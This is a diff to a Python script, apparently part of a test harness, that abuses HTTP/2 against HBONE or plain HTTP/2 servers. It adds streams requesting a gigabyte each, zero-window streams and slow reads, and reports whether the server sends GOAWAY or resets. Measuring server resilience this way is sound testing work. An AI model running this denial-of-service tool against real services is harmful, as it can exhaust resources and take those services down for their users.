@@ -1,7 +1,10 @@
 #!/usr/bin/python3
-"""An HBONE client with a right certificate that abuses HTTP/2 (RFC 9113).
+"""An HBONE client with a right certificate, or a client of plain HTTP/2, that abuses HTTP/2 (RFC 9113).
 
 usage: hbone_attack.py ATTACK IP --roots FILE --cert FILE --key FILE --authority IP:PORT [--seconds S]
+       hbone_attack.py ATTACK HOST --plain PORT --authority HOST:PORT [--seconds S]
+
+The second has GET for CONNECT, and asks for as much by GET /bulk/BYTES as raw_origin.py serves.
 
 Goes on until the server ends the connection, the attack has nothing more to send, or for S seconds,
 and prints one JSON line: {"goaway": code or null, "closed": whether the server ended it, "resets":
@@ -16,12 +19,14 @@ import ssl
 import struct
 import time
 
-from hbone_client import ACK, DATA, END_HEADERS, GOAWAY, HEADERS, RST_STREAM, SETTINGS, frame, literal
+from hbone_client import ACK, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, RST_STREAM, SETTINGS, frame, literal
 
 PRIORITY, PING, WINDOW_UPDATE, CONTINUATION = 2, 6, 8, 9
 HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4
 BATCH = 200  # frames that are made at once
 LINGER_S = 0.5  # for what the server still says
+MUCH = 1_000_000_000  # bytes
+AT_ONCE = 90  # streams of plain HTTP/2: fewer are allowed there
 
 
 def window(stream, by):
@@ -39,9 +44,17 @@ def reset(stream):
 class Attack:
     """Each method yields what is to be sent next."""
 
-    def __init__(self, authority):
+    def __init__(self, authority, plain):
+        self.plain, self.ids = plain, itertools.count(1, 2)
         self.block = literal(":method", "CONNECT") + literal(":authority", authority)
-        self.ids = itertools.count(1, 2)
+        if plain:
+            self.block = self.get("/", authority)
+            self.bulk = self.get(f"/bulk/{MUCH}", authority)
+
+    @staticmethod
+    def get(path, authority):
+        return b"".join(literal(*field) for field in ((":method", "GET"), (":scheme", "http"), (":path", path),
+                                                      (":authority", authority)))
 
     def connect(self):
         stream = next(self.ids)
@@ -104,9 +117,12 @@ class Attack:
 
     def asked(self, count):
         """So many streams on which the application is asked for more than anybody can hold."""
-        for _ in range(count):
+        for _ in range(min(count, AT_ONCE) if self.plain else count):
+            if self.plain:
+                yield frame(HEADERS, END_HEADERS | END_STREAM, next(self.ids), self.bulk)
+                continue
             stream, request = self.connect()
-            yield request + frame(DATA, 0, stream, b'{"send": 1000000000, "read": true}\n')
+            yield request + frame(DATA, 0, stream, b'{"send": %d, "read": true}\n' % MUCH)
 
     def zero_window(self):
         """As many streams as are allowed, and no room for what they carry."""
@@ -137,7 +153,7 @@ class Client:
         while True:
             try:
                 part = self.sock.recv(1 << 16)
-            except ssl.SSLWantReadError:
+            except (ssl.SSLWantReadError, BlockingIOError):
                 return True
             if not part:
                 return False
@@ -176,27 +192,33 @@ class Client:
                     sent = self.sock.send(pending[:1 << 14])
                     self.out["sent"] += sent
                     pending = pending[sent:]
-                except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
+                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                     pass
+
+
+def secured(plain, options):
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.load_verify_locations(options.roots)
+    context.set_alpn_protocols(["h2"])
+    context.load_cert_chain(options.cert, options.key)
+    return context.wrap_socket(plain)
 
 
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("attack")
     parser.add_argument("ip")
-    for name in ("roots", "cert", "key", "authority"):
-        parser.add_argument("--" + name, required=True)
+    for name in ("roots", "cert", "key"):
+        parser.add_argument("--" + name)
+    parser.add_argument("--authority", required=True)
+    parser.add_argument("--plain", type=int, metavar="PORT")
     parser.add_argument("--seconds", type=float, default=20)
     options = parser.parse_args()
-    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-    context.check_hostname = False
-    context.load_verify_locations(options.roots)
-    context.set_alpn_protocols(["h2"])
-    context.load_cert_chain(options.cert, options.key)
-    attack, reading = Attack(options.authority), options.attack != "slow_read"
-    with socket.create_connection((options.ip, 15008), timeout=10) as plain:
+    attack, reading = Attack(options.authority, options.plain), options.attack != "slow_read"
+    with socket.create_connection((options.ip, options.plain or 15008), timeout=10) as plain:
         local = plain.getsockname()[:2]
-        with context.wrap_socket(plain) as sock:
+        with plain if options.plain else secured(plain, options) as sock:
             sock.setblocking(False)
             client = Client(sock)
             try:
